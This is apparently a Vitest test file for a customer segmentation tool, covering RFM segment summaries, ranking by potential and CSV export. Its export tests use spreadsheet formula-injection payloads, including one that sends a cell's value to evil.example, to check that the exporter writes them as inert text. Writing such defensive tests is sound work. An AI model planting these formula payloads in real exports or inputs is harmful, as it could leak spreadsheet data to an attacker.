import { describe, expect, it } from 'vitest';
import { tagBehaviour } from './behaviour-tags';
import { toCsv } from '../tables/csv-export';
import { buildCustomerTable } from '../customers/customer-table';
import { parseIsoDay } from '../tables/orders-table';
import { segmentExportRows, summariseSegments } from './playbook';
import { classifyPurchasePattern } from './purchase-pattern';
import { scoreRfm } from './rfm';
import { assignSegments, DEFAULT_SEGMENT_RULES } from './segment-rules';
import {
	attributesFromRows,
	ordersFromRows,
	rowsFromProfiles,
	TEN_PROFILES
} from '../tables/test-tables';

const analysisDay = parseIsoDay('2025-01-01');
const orders = ordersFromRows(rowsFromProfiles(TEN_PROFILES, analysisDay));
// Segments of the ten customers (worked out in segment-rules.test.ts): champions c1; potential
// loyalist c3 c4 c6; loyal c7; new c2 c5; can't lose c9; about to sleep c8; lost c10.
const customers = buildCustomerTable(orders, { analysisDay });
const rfm = scoreRfm(customers);
const assignment = assignSegments(rfm, DEFAULT_SEGMENT_RULES);
const summaries = summariseSegments(customers, assignment, DEFAULT_SEGMENT_RULES);
const bySlug = (slug: string) => summaries.find((s) => s.slug === slug);

describe('summariseSegments', () => {
	it('gives one summary per rule plus Others, in rule order', () => {
		expect(summaries.map((s) => s.slug)).toEqual([
			...DEFAULT_SEGMENT_RULES.map((r) => r.slug),
			'others'
		]);
		expect(summaries.map((s) => s.customers)).toEqual([1, 3, 1, 0, 2, 1, 0, 0, 1, 1, 0]);
	});

	it('compares value share, medians, average order value and discount share', () => {
		// Potential loyalists c3 c4 c6: value 400 + 100 + 50 of 1800, 5 + 2 + 2 orders.
		expect(bySlug('potential-loyalist')).toMatchObject({
			customers: 3,
			customerShare: 0.3,
			value: 550,
			valueShare: 550 / 1800,
			medianRecencyDays: 30,
			medianOrders: 2,
			averageOrderValue: 550 / 9,
			discountShare: null
		});
		expect(bySlug('promising')?.medianRecencyDays).toBeNaN();
	});

	it('ranks segments by potential, empty segments last', () => {
		// Every tenure here is under a year, so each potential equals the segment's value.
		const ranked = [...summaries].sort((a, b) => a.potentialRank - b.potentialRank);
		expect(ranked.map((s) => `${s.slug}:${s.potential}`)).toEqual([
			'champions:1000',
			'potential-loyalist:550',
			'cant-lose-them:100',
			'loyal-customers:80',
			'new-customers:30',
			'about-to-sleep:20',
			'lost:20',
			'promising:0',
			'at-risk:0',
			'need-attention:0',
			'others:0'
		]);
	});

	it('counts expected value per customer as value per year of tenure, at least one year', () => {
		// 730 over 730 days of tenure → 365 a year.
		const old = buildCustomerTable(
			ordersFromRows([
				{ customer: 'x', order: 'x1', date: '2023-01-02', amount: 365 },
				{ customer: 'x', order: 'x2', date: '2024-12-02', amount: 365 }
			]),
			{ analysisDay }
		);
		const oldSegments = assignSegments(scoreRfm(old), DEFAULT_SEGMENT_RULES);
		const [summary] = summariseSegments(old, oldSegments, DEFAULT_SEGMENT_RULES).filter(
			(s) => s.customers > 0
		);
		expect(old.tenureDays[0]).toBe(730);
		expect(summary.expectedValuePerCustomer).toBe(365);
		expect(summary.potential).toBe(365);
	});

	it('uses the edited playbook text when given', () => {
		const edited = summariseSegments(customers, assignment, DEFAULT_SEGMENT_RULES, {
			actions: { lost: 'Send the last-chance voucher.' }
		});
		expect(edited.find((s) => s.slug === 'lost')?.action).toBe('Send the last-chance voucher.');
		expect(edited.find((s) => s.slug === 'champions')?.action).toBe(
			DEFAULT_SEGMENT_RULES[0].action
		);
	});
});

describe('segmentExportRows', () => {
	const attributes = attributesFromRows([
		{ id: 'c3', email: '=HYPERLINK("http://evil.example","click")', name: 'Ann' },
		{ id: 'c4', email: 'bo@example.com', name: 'Bo' }
	]);
	const withContacts = buildCustomerTable(orders, { analysisDay }, attributes);
	const input = {
		customers: withContacts,
		rfm,
		assignment,
		rules: DEFAULT_SEGMENT_RULES,
		pattern: classifyPurchasePattern(withContacts),
		tags: tagBehaviour(withContacts)
	};

	it('lists one segment by value with scores, pattern, tags and contact columns', () => {
		// c4 and c6: two orders 10 days apart, the last 30 days ago: lapsing (30 > 2 × 10).
		// Orders 10 days apart ending `recency` days before 2025-01-01: c3's five end on 12-22 and
		// start on 11-12; c4's and c6's two are 11-22 and 12-02.
		const rows = segmentExportRows({ currency: '', ...input, segment: 'potential-loyalist' });
		expect(rows).toEqual([
			[
				'customer_id',
				'name',
				'email',
				'orders',
				'net_revenue',
				'first_order',
				'last_order',
				'recency_days',
				'segment',
				'r',
				'f',
				'm',
				'pattern',
				'lapsing',
				'tags'
			],
			[
				'c3',
				'Ann',
				'=HYPERLINK("http://evil.example","click")',
				5,
				400,
				'2024-11-12',
				'2024-12-22',
				10,
				'Potential Loyalist',
				4,
				5,
				5,
				'regular',
				'no',
				''
			],
			[
				'c4',
				'Bo',
				'bo@example.com',
				2,
				100,
				'2024-11-22',
				'2024-12-02',
				30,
				'Potential Loyalist',
				4,
				3,
				4,
				'irregular',
				'yes',
				''
			],
			[
				'c6',
				'',
				'',
				2,
				50,
				'2024-11-22',
				'2024-12-02',
				30,
				'Potential Loyalist',
				4,
				3,
				3,
				'irregular',
				'yes',
				''
			]
		]);
	});

	it('exports a selection mask and all segments in rule order', () => {
		const mask = new Uint8Array(withContacts.count);
		mask[withContacts.ids.indexOf('c9')] = 1;
		mask[withContacts.ids.indexOf('c1')] = 1;
		expect(segmentExportRows({ currency: '', ...input, mask }).map((row) => row[0])).toEqual([
			'customer_id',
			'c1',
			'c9'
		]);
		expect(segmentExportRows({ ...input, currency: '' }).length).toBe(11);
	});

	it('rejects an unknown segment', () => {
		expect(() => segmentExportRows({ currency: '', ...input, segment: 'vip' })).toThrow(/vip/);
	});

	it('writes a CSV where the hostile e-mail cell is inert text', () => {
		const csv = toCsv(segmentExportRows({ currency: '', ...input, segment: 'potential-loyalist' }));
		expect(csv.split('\r\n')[1]).toBe(
			`c3,Ann,"'=HYPERLINK(""http://evil.example"",""click"")",5,400,2024-11-12,2024-12-22,10,Potential Loyalist,4,5,5,regular,no,`
		);
	});

	it('writes a customer id like =HYPERLINK(...) as inert text', () => {
		const hostileId = '=HYPERLINK("http://evil.example/?"&A1,"Click me")';
		const hostile = buildCustomerTable(
			ordersFromRows([
				{ customer: hostileId, order: 'h1', date: '2024-06-01', amount: 10 },
				{ customer: 'plain', order: 'p1', date: '2024-06-02', amount: 20 }
			])
		);
		const hostileRfm = scoreRfm(hostile);
		const rows = segmentExportRows({
			currency: '',
			customers: hostile,
			rfm: hostileRfm,
			assignment: assignSegments(hostileRfm, DEFAULT_SEGMENT_RULES),
			rules: DEFAULT_SEGMENT_RULES
		});
		const lines = toCsv(rows).split('\r\n');
		const hostileLine = lines.find((line) => line.includes('HYPERLINK'));
		expect(
			hostileLine?.startsWith(`"'=HYPERLINK(""http://evil.example/?""&A1,""Click me"")",`)
		).toBe(true);
	});
});
